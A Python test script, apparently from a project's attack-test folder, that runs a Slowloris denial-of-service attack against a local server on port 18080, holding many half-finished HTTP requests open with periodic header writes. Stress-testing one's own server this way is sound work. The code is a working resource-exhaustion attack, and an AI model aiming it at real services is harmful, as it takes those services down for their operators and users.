"""Slowloris: idle TCP connections (half a request line each) from one address, no code.
PYTHONPATH=. .venv/bin/python tests/attacks/fd_attack.py COUNT HOLD_SECONDS"""

import asyncio
import sys
import time


async def main(count: int, hold: float) -> None:
    writers = []
    for i in range(count):
        try:
            _, w = await asyncio.wait_for(
                asyncio.open_connection(
                    "127.0.0.1", 18080, local_addr=(f"127.0.1.{1 + i % 200}", 0)
                ),
                3,
            )
            w.write(b"GET /api/state HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # never the blank line
            writers.append(w)
        except Exception as error:
            print("connect", i, type(error).__name__, error)
            break
    print("idle connections open:", len(writers), flush=True)
    start = time.monotonic()
    while time.monotonic() - start < hold:
        for w in writers:
            if not w.is_closing():
                w.write(b"X-a: b\r\n")  # a header every 10 s keeps each one alive
        await asyncio.sleep(10)
        alive = sum(1 for w in writers if not w.is_closing())
        print(f"t={time.monotonic() - start:.0f}s alive={alive}", flush=True)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), float(sys.argv[2])))
